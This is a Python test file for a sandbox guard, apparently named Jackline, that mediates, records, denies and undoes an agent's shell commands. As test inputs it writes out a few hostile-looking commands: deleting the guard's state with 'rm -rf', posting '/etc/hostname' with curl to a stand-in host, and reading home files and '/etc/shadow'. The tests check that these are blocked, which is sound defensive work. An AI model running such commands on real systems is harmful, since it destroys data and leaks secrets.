"""`exec`, through: decided, run in a sandbox over the workspace, recorded, undone. Real keepers, real namespaces."""

from __future__ import annotations

import os
import socket
import threading

import pytest

from jackline.contain.keeper import visit
from tests.guard.running.visitor import TERM, ask, execute, show

pytestmark = pytest.mark.slow


def kinds(desktop, action):
    ledger = desktop.service.parts().ledger
    return [event.kind for _, event in ledger.events() if event.action == action]


def last_action(desktop):
    return desktop.events("requested")[-1].action


def test_output_exit_code_and_input_are_the_commands_own(contained):
    came = execute(contained, "sh", "-c", "cat; echo said >&2; exit 7", stdin=b"given")
    assert (came.code, came.out, came.err) == (7, "given", "said\n")


def test_the_entries_stand_in_order(contained):
    execute(contained, "true")
    assert kinds(contained, last_action(contained)) == ["requested", "decided", "started", "observed", "finished"]


def test_what_it_changes_reaches_the_workspace_and_is_undone_exactly(contained):
    notes = contained.project / "notes.txt"
    notes.write_text("precious\n")
    os.utime(notes, ns=(1, 1_600_000_000_123_456_789))
    came = execute(contained, "sh", "-c", "rm notes.txt; mkdir -p d/e; echo x > d/e/f; ln -s d l")
    assert came.code == 0, came
    assert sorted(os.listdir(contained.project)) == ["d", "l"]
    done = contained.call("undo", id=last_action(contained))
    assert str(notes) in done["paths"]
    assert os.listdir(contained.project) == ["notes.txt"]
    assert (notes.read_text(), notes.stat().st_mtime_ns) == ("precious\n", 1_600_000_000_123_456_789)
    contained.call("undo", id=done["action"])
    assert sorted(os.listdir(contained.project)) == ["d", "l"]


def test_what_it_changed_is_an_observed_fact(contained):
    execute(contained, "touch", "made")
    observed = [event.data["changed"] for event in contained.events("observed")]
    assert observed == [[{"path": str(contained.project / "made"), "verb": "create"}]]


def test_a_denial_runs_nothing_and_says_why(contained):
    code, out, err = ask(contained, "rm", "-rf", contained.homes.state)
    assert (code, out) == (126, b"")
    assert b"Jackline stopped this" in err


def test_a_question_runs_nothing_until_it_is_answered(contained):
    code, out, err = ask(contained, "curl", "-d", "@/etc/hostname", "https://elsewhere.example")
    assert (code, out) == (126, b"")
    assert b"approve" in err


def test_a_ticket_runs_once(contained):
    _, out, _ = ask(contained, "touch", "once")
    place, _, ticket = out.partition(b"\0")
    assert show(place.decode(), ticket.decode()).code == 0
    again = show(place.decode(), ticket.decode())
    assert again.code is None
    assert "was run already" in again.sentence


def test_without_a_ticket_nothing_runs(contained):
    _, out, _ = ask(contained, "true")
    came = show(out.partition(b"\0")[0].decode(), "0" * 32)
    assert came.code is None


def test_home_secrets_and_the_guard_are_not_there(contained):
    probe = f"ls -A ~ | grep -v -x -e .cargo -e .pyenv -e .rustup -e .m2 -e .gitconfig; ls {contained.homes.state} {contained.homes.runtime}; cat /etc/shadow"
    came = execute(contained, "sh", "-c", f"eval '{probe}'")
    listed = came.out.split()
    assert ".ssh" not in listed
    assert "ledger.sqlite" not in came.out
    assert "No such file" in came.err or came.code is None


def test_a_signal_reaches_the_program(contained):
    _, out, _ = ask(contained, "sleep", "1000")
    place, _, ticket = out.partition(b"\0")
    came = show(place.decode(), ticket.decode(), signals=(TERM,))
    assert came.code == 128 + TERM


def test_when_the_guard_goes_everything_goes(contained):
    _, out, _ = ask(contained, "sleep", "1000")
    place, _, ticket = out.partition(b"\0")
    keeper = contained.service.parts().keepers
    session = contained.events("requested")[-1].session
    held = keeper.of(session)
    assert held is not None
    with socket.socket(socket.AF_UNIX) as connection, open(os.devnull, "r+b") as null:
        connection.connect(place.decode())
        socket.send_fds(
            connection, [visit.hello(ticket.decode(), terminal=False, environment=b"")], [null.fileno()] * 3
        )
        assert connection.recv(100) == visit.STARTED
        threading.Thread(target=contained.service.close).start()
        connection.settimeout(20)
        assert connection.recv(100) in {b"", b"JX1 exit 137\n"}
    assert held.over(20)


def test_after_a_restart_the_view_is_of_the_workspace_as_it_is_then(contained):
    execute(contained, "sh", "-c", "echo agent > both; echo agent > only")
    contained.restart()
    (contained.project / "both").write_text("a person's\n")
    assert execute(contained, "cat", "both", "only").out == "a person's\nagent\n"


def test_what_a_person_changes_meanwhile_is_seen_inside(contained):
    (contained.project / "notes").write_text("one\n")
    assert execute(contained, "cat", "notes").out == "one\n"
    (contained.project / "notes").write_text("two\n")
    (contained.project / "new").write_text("new\n")
    assert execute(contained, "cat", "notes", "new").out == "two\nnew\n"
